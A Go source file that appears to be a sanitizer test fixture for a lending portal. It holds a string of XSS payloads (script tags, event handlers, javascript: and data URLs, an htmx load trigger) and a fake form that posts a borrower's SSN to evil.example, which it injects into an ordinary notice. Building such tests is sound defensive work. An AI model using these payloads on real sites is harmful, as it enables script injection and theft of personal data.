package sandbox

import "strings"

// hostileInsert is the attack surface of the hostile-notice scenario: every way a
// notice could try to run code or change the portal's page, mixed with ordinary
// text the borrower should still be able to read. The portal must sanitize the
// notice (bluemonday) so that only the harmless parts survive.
const hostileInsert = `<h2>Additional information</h2>
<p>Please read this notice carefully. <script>alert(1)</script>It explains our decision.</p>
<p><img src=x onerror=alert(1)>Your application was reviewed by our lending panel.</p>
<p>Questions? <a href="javascript:alert(1)">Contact us</a> or see <a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">our policy</a>.</p>
<div hx-get="/x" hx-trigger="load" hx-swap="outerHTML">We may send you a copy of this notice by mail.</div>
<svg onload=alert(1)><circle r="1"/></svg>
<iframe src="https://evil.example/frame"></iframe>
<form action="https://evil.example/collect" method="post"><input name="ssn" placeholder="Confirm your SSN"><button>Submit</button></form>
<style>body{display:none}</style>
<p onclick="alert(1)" style="background:url(javascript:alert(1))">You can apply again at any time.</p>
<object data="javascript:alert(1)"></object><embed src="javascript:alert(1)">
<meta http-equiv="refresh" content="0;url=https://evil.example/">
<a href="https://evil.example/" target="_blank">More about credit scores</a>
`

// hostileNotice injects the hostile insert into an otherwise ordinary notice,
// just before its closing tag, so the notice still reads like a real one.
func hostileNotice(ordinary string) string {
	const end = "</section>"
	if i := strings.LastIndex(ordinary, end); i >= 0 {
		return ordinary[:i] + hostileInsert + ordinary[i:]
	}
	return ordinary + hostileInsert
}
